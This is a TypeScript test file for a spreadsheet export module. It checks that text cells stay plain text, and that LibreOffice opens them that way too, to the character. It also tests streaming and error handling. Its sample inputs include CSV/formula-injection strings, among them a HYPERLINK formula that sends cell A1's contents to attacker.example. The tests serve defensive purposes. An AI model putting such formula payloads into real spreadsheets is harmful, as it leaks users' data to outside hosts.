import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import type { ExportRow } from '../../../src/domains/exports/export-table.rules';
import { writeWorkbook } from '../../../src/domains/exports/write-workbook';
import { unzipped } from '../../support/unzipped';
import { aFile, read } from './a-file';

/** Names as they are, and texts that somebody would like a spreadsheet to run. */
const TEXTS = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
  '+86',
  '-1',
  '@SUM(A1:A9)',
  '\t=1',
  '阿布都拉·买买提',
  '𠮷𪚥村党支部',
  ' 前后有空格 ',
  '_x0041_党支部',
  '<b>&amp;"\'',
  '第一行\n第二行',
  '540102009005',
];

const rows: ExportRow[] = TEXTS.map((name, n) => ({ name, n: n - 3, on: '2024-02-29', is: n % 2 === 0 }));

describe('A workbook', () => {
  it('has the sheet about the table first, and every text typed as one', async () => {
    const parts = unzipped(await read(writeWorkbook(aFile(), aFile.batches([rows.slice(0, 5), rows.slice(5)]))));
    expect([...parts.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    expect(parts.get('xl/workbook.xml')).toContain('<sheet name="说明" sheetId="1" r:id="rId1"/><sheet name="明细"');
    expect(textsIn(parts.get('xl/worksheets/sheet1.xml'))).toEqual(['A title', 'Rule', 'All of them, always.']);
    const table = parts.get('xl/worksheets/sheet2.xml') ?? '';
    expect(table).not.toContain('<f');
    expect(
      textsIn(table)
        .filter((_, at) => at % 2 === 0)
        .slice(2),
    ).toEqual(TEXTS);
    // 29 February 2024 is day 45351 of spreadsheets.
    expect(table).toContain('<c r="B2" s="0"><v>-3</v></c><c r="C2" s="2"><v>45351</v></c>');
  });

  it('holds any text that the database can, to the character', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (name) => {
        const parts = unzipped(await read(writeWorkbook(aFile(), aFile.batches([[{ name, n: 1 }]]))));
        expect(textsIn(parts.get('xl/worksheets/sheet2.xml')).at(-1)).toBe(name);
      }),
    );
  });

  it('is made as it is read: a reader that pauses pauses the rows, and one that leaves ends them', async () => {
    let given = 0;
    let isLeft = false;
    async function* endless(): AsyncGenerator<ExportRow[]> {
      try {
        for (;;) {
          given += 1;
          yield Array.from({ length: 500 }, (_, n) => ({ name: `${Math.sin(given * 500 + n)}`, n }));
        }
      } finally {
        isLeft = true;
      }
    }
    const bytes = writeWorkbook(aFile(), endless());
    const reader = bytes[Symbol.asyncIterator]();
    await reader.next();
    for (let turns = 0; turns < 200; turns += 1) await new Promise(setImmediate);
    const paused = given;
    expect(paused).toBeLessThan(40);
    await reader.return?.();
    for (let turns = 0; turns < 200; turns += 1) await new Promise(setImmediate);
    expect(isLeft).toBe(true);
  });

  it('breaks off where the rows break off', async () => {
    async function* broken(): AsyncGenerator<ExportRow[]> {
      yield rows;
      throw new Error('the database went away');
    }
    await expect(read(writeWorkbook(aFile(), broken()))).rejects.toThrow('the database went away');
  });
});

const soffice = (process.env.PATH ?? '')
  .split(delimiter)
  .map((folder) => join(folder, 'soffice'))
  .find(existsSync);

if (soffice === undefined) {
  console.warn('LibreOffice (soffice) is not installed here: that it opens a workbook is not tested.');
} else {
  describe('LibreOffice', () => {
    const folder = mkdtempSync(join(tmpdir(), 'zuzhi-workbook-'));
    afterAll(() => rmSync(folder, { recursive: true }));

    it('opens it, and shows texts as texts, to the character', async () => {
      writeFileSync(join(folder, 'table.xlsx'), await read(writeWorkbook(aFile(), aFile.batches([rows]))));
      const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
      await promisify(execFile)(soffice, [
        profile,
        '--headless',
        '--convert-to',
        'fods',
        '--outdir',
        folder,
        join(folder, 'table.xlsx'),
      ]);
      const opened = readFileSync(join(folder, 'table.fods'), 'utf8');

      expect(opened).not.toContain('table:formula');
      expect([...opened.matchAll(/<table:table table:name="([^"]+)"/g)].map(([, name]) => name)).toEqual([
        '说明',
        '明细',
      ]);
      expect(openedTexts(opened)).toEqual(expect.arrayContaining(['A title', 'All of them, always.', ...TEXTS]));
      expect(opened).toContain('office:value-type="date" office:date-value="2024-02-29"');
      expect(opened).toContain('office:value-type="float" office:value="-3"');
    }, 120_000);
  });
}

/** Texts of the cells of a worksheet. */
function textsIn(sheet = ''): string[] {
  return [...sheet.matchAll(/<t xml:space="preserve">([\s\S]*?)<\/t>/g)].map(([, text = '']) =>
    unescaped(text).replace(/_x([0-9A-Fa-f]{4})_/g, (_, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    ),
  );
}

/** Texts of the cells of a flat OpenDocument spreadsheet. */
function openedTexts(document: string): string[] {
  const cells = document.matchAll(
    /<table:table-cell[^>]*office:value-type="string"[^>]*>([\s\S]*?)<\/table:table-cell>/g,
  );
  return [...cells].map(([, cell = '']) =>
    [...cell.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)]
      .map(([, line = '']) =>
        unescaped(
          line
            .replace(/<text:s text:c="(\d+)"\/>/g, (_, count: string) => ' '.repeat(Number(count)))
            .replaceAll('<text:s/>', ' ')
            .replaceAll('<text:tab/>', '\t')
            .replace(/<\/?text:span[^>]*>/g, ''),
        ),
      )
      .join('\n'),
  );
}

const unescaped = (xml: string) =>
  xml
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
